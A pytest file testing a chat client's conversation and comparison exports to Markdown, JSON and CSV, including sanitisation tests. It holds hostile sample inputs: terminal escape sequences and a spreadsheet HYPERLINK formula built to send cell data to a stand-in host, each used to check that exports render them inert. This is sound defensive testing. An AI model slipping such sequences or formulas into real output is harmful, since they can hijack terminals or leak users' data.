"""Exports of conversations and comparisons, written from real answers of the demo relay."""

from __future__ import annotations

import csv
import json

import pytest

from relay_tui.core.chat import Conversation
from relay_tui.core.client import RelayClient
from relay_tui.core.compare import run_comparison
from relay_tui.core.export import ExportError, export_comparison, export_conversation
from relay_tui.store.history import History
from relay_tui.store.paths import exports_dir
from relay_tui.store.profile import Profile
from tests.conftest import TEST_KEY


@pytest.fixture
async def setup(demo_relay):
    history = History()
    async with RelayClient(Profile("p", demo_relay.base_url, max_retries=0), TEST_KEY) as client:
        yield client, history
    history.close()


async def chat(client, history, prompt: str, model: str = "gpt-4.1") -> tuple[Conversation, str]:
    conv = Conversation.start(client, history, profile="p", model=model, title=prompt,
                              system_prompt="Be brief.", params={"temperature": 0.2})
    async for _ in conv.send(prompt):
        pass
    return conv, history.messages(conv.id)[-1].content


def no_escapes(text: str) -> None:
    for bad in ("\x1b", "\x07", "\b", "\u202e", "\x9b"):  # \x9b: the 8-bit CSI
        assert bad not in text


async def test_conversation_markdown_and_json(setup):
    client, history = setup
    conv, answer = await chat(client, history, "Explain exports")
    md = export_conversation(history, conv.id, "md")
    assert md.parent == exports_dir() and md.name.endswith("-explain-exports.md")
    text = md.read_text()
    assert "# Explain exports" in text and "## System\n\nBe brief." in text
    assert "## User\n\nExplain exports" in text
    assert answer.strip().splitlines()[0] in text
    assert "TTFT" in text and "temperature=0.2" in text  # the footer and the parameters
    data = json.loads(export_conversation(history, conv.id, "json").read_text())
    assert data["conversation"]["system_prompt"] == "Be brief."
    assert [m["role"] for m in data["messages"]] == ["user", "assistant"]
    assert data["messages"][1]["content"] == answer


async def test_hostile_output_is_neutralised_in_every_format(setup, demo_relay, tmp_path):
    client, history = setup
    demo_relay.set_fault("hostile_output")
    conv, answer = await chat(client, history, "hi")
    assert "\x1b" in answer  # the history keeps what the model sent
    for fmt in ("md", "json"):
        text = export_conversation(history, conv.id, fmt, tmp_path).read_text()
        no_escapes(text)
        assert "␛[2J" in text or "\\u241b[2J" in text
    result = await run_comparison(client, history, profile="p", models=["gpt-4.1", "gemini-2.5-flash"],
                                  prompt="compare \x1b]0;x\x07 this")
    for fmt in ("md", "json", "csv"):
        text = export_comparison(history, result.comparison_id, fmt, tmp_path).read_text()
        no_escapes(text)
        assert "compare ␛]0;x␇ this" in text or "compare \\u241b]0;x\\u2407 this" in text  # kept, inert
        assert "␛[2J" in text or "\\u241b[2J" in text                      # each answer too


async def test_comparison_exports(setup, demo_relay):
    client, history = setup
    demo_relay.set_fault("server_error", model="gemini-2.5-flash")
    result = await run_comparison(client, history, profile="p", models=["gpt-4.1", "gemini-2.5-flash"],
                                  prompt="Which is faster?")
    history.add_vote(result.comparison_id, winner_model="gpt-4.1", outcome="A")
    md = export_comparison(history, result.comparison_id, "md").read_text()
    assert "## A: gpt-4.1" in md and "## B: gemini-2.5-flash" in md and "**error:**" in md
    assert "- vote: A (gpt-4.1)" in md and "## Prompt\n\nWhich is faster?" in md
    rows = list(csv.DictReader(export_comparison(history, result.comparison_id, "csv").open()))
    assert [(r["column"], r["model"], r["state"]) for r in rows] == [
        ("A", "gpt-4.1", "done"), ("B", "gemini-2.5-flash", "error")]
    assert rows[0]["content"] == result.columns[0].text and float(rows[0]["ttft"]) >= 0
    data = json.loads(export_comparison(history, result.comparison_id, "json").read_text())
    assert data["vote"]["outcome"] == "A" and len(data["answers"]) == 2


async def test_csv_cells_are_never_spreadsheet_formulas(setup):
    client, history = setup
    result = await run_comparison(client, history, profile="p", models=["gpt-4.1", "gpt-4.1"],
                                  prompt='=HYPERLINK("http://x.test/?"&A1,"click")')
    rows = list(csv.DictReader(export_comparison(history, result.comparison_id, "csv").open()))
    assert rows[0]["prompt"] == '\'=HYPERLINK("http://x.test/?"&A1,"click")'  # inert, still readable
    assert rows[0]["model"] == "gpt-4.1" and rows[0]["content"] == result.columns[0].text


def test_missing_or_wrong_format_is_one_line(tmp_path):
    history = History()
    with pytest.raises(ExportError, match="conversation 9 does not exist"):
        export_conversation(history, 9, "md")
    conv_id = history.new_conversation(title="t", profile="p", model="m")
    with pytest.raises(ExportError, match="md or json"):
        export_conversation(history, conv_id, "csv")
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(ExportError, match="cannot write the export"):
        export_conversation(history, conv_id, "md", blocker / "sub")
    history.close()
